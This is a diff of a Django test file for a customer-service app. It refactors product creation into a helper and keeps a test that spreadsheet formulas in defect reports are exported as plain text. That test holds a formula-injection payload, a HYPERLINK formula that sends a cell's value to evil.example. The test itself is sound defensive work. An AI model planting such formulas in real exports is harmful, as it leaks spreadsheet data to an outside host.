@@ -6,12 +6,11 @@ import pytest
 from django.core.exceptions import ValidationError
 from django.utils import timezone
 
-from kefu.catalog.models import Product
 from kefu.conversations import marks, state
 from kefu.conversations.models import ConversationMark, Message
 from kefu.desk import marks as desk_marks
 from tests.conftest import login_client
-from tests.helpers import buyer_says, online
+from tests.helpers import add_product, buyer_says, online
 
 pytestmark = pytest.mark.django_db
 
@@ -71,8 +70,8 @@ def test_one_active_mark_per_colour(conv, after_agent):
 
 
 def test_red_marks_feed_the_quality_report_per_product(shop, conv, after_agent, owner):
-    lamp = Product.objects.create(shop=shop, external_id="L-1", title="Desk lamp")
-    strip = Product.objects.create(shop=shop, external_id="S-1", title="Light strip")
+    lamp = add_product(shop, "L-1", "Desk lamp")
+    strip = add_product(shop, "S-1", "Light strip")
     marks.add_mark(
         actor=after_agent, conversation=conv, color="red", product_id=lamp.pk, defect="cracked base"
     )
@@ -135,7 +134,7 @@ def test_a_formula_in_a_defect_reaches_the_seller_as_text(shop, conv, after_agen
 
     from openpyxl import load_workbook
 
-    lamp = Product.objects.create(shop=shop, external_id="L-1", title="=1+1 Desk lamp")
+    lamp = add_product(shop, "L-1", "=1+1 Desk lamp")
     payload = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
     marks.add_mark(
         actor=after_agent, conversation=conv, color="red", product_id=lamp.pk, defect=payload
